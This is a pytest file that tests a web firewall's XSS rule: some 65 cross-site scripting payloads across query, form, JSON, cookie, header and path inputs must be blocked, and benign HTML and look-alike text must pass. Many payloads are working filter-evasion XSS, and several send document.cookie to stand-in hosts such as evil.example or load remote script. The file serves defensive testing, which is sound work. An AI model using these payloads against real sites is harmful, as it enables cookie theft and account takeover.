"""Rule key XSS: script injection must block at Standard, rich text and look-alikes must pass.

The engine here holds only the XSS rules (with the default policy), so a benign case proves
that XSS stays quiet regardless of what other keys think of it, and every test runs on both
scanner twins.
"""

from __future__ import annotations

from urllib.parse import quote, quote_plus

import pytest

from airlock_filters import Request

from . import requests as build
from .requests import Place, blocked_keys, quote_all

KEY = "XSS"
HOST = "shop"


def query(value: str) -> Request:
    return build.query(value, encode=quote_all, host=HOST)


def form(value: str) -> Request:
    return build.form(value, encode=quote_plus, rest="&submit=Send", host=HOST)


def json_body(value: str) -> Request:
    return build.json_body({"post": {"title": "Hi", "body": value}}, path="/api/posts", host=HOST)


def cookie(value: str) -> Request:
    return build.cookie(value, "theme=dark; last=", encode=quote, host=HOST)


def header(value: str) -> Request:
    return build.header("Referer", value, host=HOST)


def path(value: str) -> Request:
    return build.get("/wiki/" + quote_all(value), host=HOST)


ATTACKS: list[tuple[Place, str]] = [
    # <script> elements, plain and disguised
    (query, "<script>alert(document.domain)</script>"),
    (form, "</textarea><script src=//evil.example/x.js></script>"),
    (json_body, "<SCRIPT>fetch('//evil.example/'+document.cookie)</SCRIPT>"),
    (cookie, "<script>new Image().src='//e.example/'+document.cookie</script>"),
    (header, "https://shop/<script>alert(1)</script>"),
    (path, "<script>alert(1)</script>"),
    (query, "&lt;script&gt;alert(1)&lt;/script&gt;"),
    (form, "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;"),
    (json_body, "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    (query, "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    (query, "<svg><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
    # event handlers on any tag, and after breaking out of an attribute
    (query, "<img src=x onerror=alert(1)>"),
    (form, "<svg/onload=confirm(1)>"),
    (json_body, '<details open ontoggle="prompt(1)">'),
    (cookie, "<body onpageshow=alert(1)>"),
    (query, "<video><source onerror=alert(1)></video>"),
    (query, "<custom-el onanimationstart=alert(1) style=animation-name:x>"),
    (query, "<a href=#\tonclick=alert(1)>x</a>"),
    (form, '" onmouseover="alert(document.cookie)'),
    (query, "' autofocus onfocus='alert(1)"),
    (header, "Mozilla/5.0 (X11; Linux) onload=alert(1)"),
    (query, '"onbeforecopy=alert(1)//'),
    # script-scheme URIs
    (query, "javascript:alert(document.cookie)"),
    (form, '<a href="javascript:void(fetch(`//e.example`))">x</a>'),
    (json_body, "JaVaScRiPt://%0aalert(1)"),
    (query, "java\tscript:alert(1)"),
    (query, "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    (form, "javascript&colon;alert(1)"),
    (form, "jav&#x09;ascript:alert(1)"),
    (query, '<a href="vbscript:msgbox(1)">x</a>'),
    (json_body, "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"),
    (query, '<embed src="data:image/svg+xml;base64,PHN2Zz4=">'),
    (query, "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>"),
    (form, "<math><a xlink:href=javascript:alert(1)>x</a></math>"),
    # active content and CSS
    (query, "<object data=//evil.example/x.swf>"),
    (query, "<applet code=Evil.class>"),
    (form, '<div style="width:expression(alert(1))">'),
    (json_body, '<p style="background:url(javascript:alert(1))">x</p>'),
    (query, "<div style=-moz-binding:url(//e.example/x.xml#x)>"),
    # JavaScript payloads for script contexts
    (query, "';alert(document.domain);//"),
    (form, '"-prompt(1)-"'),
    (query, "alert`1`"),
    (json_body, "confirm(document.cookie)"),
    (query, "document.cookie"),
    (cookie, "window.location='//evil.example/?'+document.cookie"),
    (query, "eval(atob('YWxlcnQoMSk='))"),
    (form, "setTimeout('alert(1)',10)"),
    (query, "new Function('alert(1)')()"),
    (query, "top['al'+'ert'](1)"),
    (query, "self[/*x*/'eval'](name)"),
    (query, "String.fromCharCode(97,108,101,114,116)"),
    (json_body, "x.innerHTML='<img src=x onerror=alert(1)>'"),
    (query, "[].map.call`${eval}`"),
    (query, "[1].find(alert)"),
    (query, "(![]+[])[+!+[]]+(!![]+[])[+[]]"),
    (query, "import('//evil.example/m.js')"),
    (query, '"in location="javascript:alert(1)"//'),
    # filter-evasion encodings
    (query, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    (query, "< s c r i p t >alert(1)"),
    (query, "\u00bcscript\u00bealert(1)\u00bc/script\u00be"),
    (query, "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    (form, "<img src=x onerror&#61;alert(1)>"),
    (json_body, "throw onerror=alert,1"),
    (query, "top[8680439..toString(30)](1)"),
    (query, "<svg><animate attributeName=href values=javascript:alert(1) />"),
]

BENIGN: list[tuple[Place, str]] = [
    (form, "<p>Great <b>shoes</b>, <i>very</i> comfy!</p><ul><li>fit</li><li>price</li></ul>"),
    (
        json_body,
        '<p>See <a href="https://example.com/p?id=1&onsale=1" target="_blank">this'
        '</a></p><img src="https://cdn.example.com/a.jpg" alt="A cat" loading="lazy">',
    ),
    (json_body, '<span style="color:red">red</span> <p style="text-align:center">c</p><br/>'),
    (form, "<blockquote>Quote</blockquote><pre><code>const x = a < b;</code></pre>"),
    (json_body, '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==" alt="">'),
    (query, "I <3 this <3"),
    (query, "a < b > c"),
    (query, "javascript the good parts"),
    (query, "JavaScript: The Definitive Guide"),
    (query, "script font for invitations"),
    (query, "price alert for tv"),
    (query, "Alerts (3)"),
    (query, "please confirm your email"),
    (query, "Confirm(ation) pending"),
    (query, "prompt engineering"),
    (query, "document.pdf"),
    (query, "how to use window.location in react"),
    (query, "onboarding=complete"),
    (cookie, "mode=dark|onboarding=done"),
    (header, "https://www.google.com/recaptcha/api.js?onload=onloadCallback&render=explicit"),
    (header, "https://example.com/page?version=1.0&action=view&position=top"),
    (query, "![](https://example.com/img.png) and **bold**"),
    (query, "Wow!![](https://example.com/img.png)"),
    (query, "List<Object> items = new ArrayList<>();"),
    (query, "data: name, address"),
    (query, "The expression (a+b) is evaluated"),
    (json_body, "background: url(https://example.com/bg.png) no-repeat"),
    (query, 'O\'Brien said "in stock"'),
    (header, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),
    (header, "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFU"),
    (cookie, "FCNEC=AKsRol96Mxyk9FqhFojBc6fQqh0ONvOztHg=="),
    (path, "javascript-manual"),
]


@pytest.mark.parametrize(("place", "payload"), ATTACKS)
def test_attack_blocks_at_standard(implementation: str, place: Place, payload: str) -> None:
    assert KEY in blocked_keys(KEY, "Standard", implementation, place(payload))


@pytest.mark.parametrize(("place", "payload"), BENIGN)
def test_benign_passes_at_standard(implementation: str, place: Place, payload: str) -> None:
    assert blocked_keys(KEY, "Standard", implementation, place(payload)) == set()


@pytest.mark.parametrize(
    "payload",
    ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
     '<a href="javascript:alert(1)">x</a>', "<p style=background:url(javascript:alert(1))>"],
)  # fmt: skip
def test_basic_catches_the_unmistakable(implementation: str, payload: str) -> None:
    assert KEY in blocked_keys(KEY, "Basic", implementation, query(payload))


@pytest.mark.parametrize("payload", ["document.cookie", "alert(1)", "' onfocus=alert(1) '"])
def test_script_fragments_need_standard(implementation: str, payload: str) -> None:
    assert blocked_keys(KEY, "Basic", implementation, query(payload)) == set()
    assert KEY in blocked_keys(KEY, "Standard", implementation, query(payload))


@pytest.mark.parametrize(
    "payload", ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', "<svg><g><a>x</a></g></svg>"]
)
def test_strict_only(implementation: str, payload: str) -> None:
    assert blocked_keys(KEY, "Standard", implementation, form(payload)) == set()
    assert KEY in blocked_keys(KEY, "Strict", implementation, form(payload))
